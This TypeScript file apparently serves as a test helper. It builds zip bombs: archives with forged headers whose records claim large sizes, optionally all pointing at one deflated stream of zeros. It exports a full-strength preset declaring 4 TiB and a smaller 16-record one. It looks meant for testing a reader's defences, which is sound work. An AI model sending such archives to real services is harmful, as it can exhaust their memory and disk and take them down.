import { deflateRawSync } from 'node:zlib';

export interface BombShape {
  /** Central-directory records, each a `.csv` file. */
  readonly entries: number;
  /** The unpacked size each record declares. */
  readonly declaredBytes: number;
  /** What the one packed stream really unpacks to (zeros). */
  readonly inflatedBytes: number;
  /** Every record points at the same local header and stream (the overlap trick); one copy each otherwise. */
  readonly overlapping: boolean;
}

/**
 * A zip archive made to hurt its reader, with forged headers: records declaring `declaredBytes`
 * over deflated zeros that unpack to `inflatedBytes`.
 */
export function zipBomb(shape: BombShape): Buffer {
  const packed = deflateRawSync(Buffer.alloc(shape.inflatedBytes), { level: 9 });
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  const copies = shape.overlapping ? 1 : shape.entries;
  const offsets: number[] = [];
  for (let copy = 0; copy < copies; copy += 1) {
    const name = Buffer.from(`p${copy}.csv`);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(shape.declaredBytes, 22);
    local.writeUInt16LE(name.length, 26);
    locals.push(local, name, packed);
    offsets.push(offset);
    offset += local.length + name.length + packed.length;
  }
  for (let index = 0; index < shape.entries; index += 1) {
    const name = Buffer.from(`p${index}.csv`);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt16LE(0x5b79, 14); // 2025-11-25
    entry.writeUInt32LE(packed.length, 20);
    entry.writeUInt32LE(shape.declaredBytes, 24);
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt32LE(offsets[shape.overlapping ? 0 : index] ?? 0, 42);
    directory.push(entry, name);
  }
  const directoryBytes = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(shape.entries, 8);
  end.writeUInt16LE(shape.entries, 10);
  end.writeUInt32LE(directoryBytes.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directoryBytes, end]);
}

const MIB = 1024 * 1024;

/** The bomb of issue 21 at full strength: 65,535 records of 64 MiB each (4 TiB declared) over one stream. */
export const FULL_STRENGTH: BombShape = {
  entries: 65_535,
  declaredBytes: 64 * MIB,
  inflatedBytes: 64 * MIB,
  overlapping: true,
};

/** A smaller one: 16 records of 64 MiB over one stream, 1 GiB for a reader that trusts it. */
export const SIXTEEN_OVERLAPPING: BombShape = { ...FULL_STRENGTH, entries: 16 };
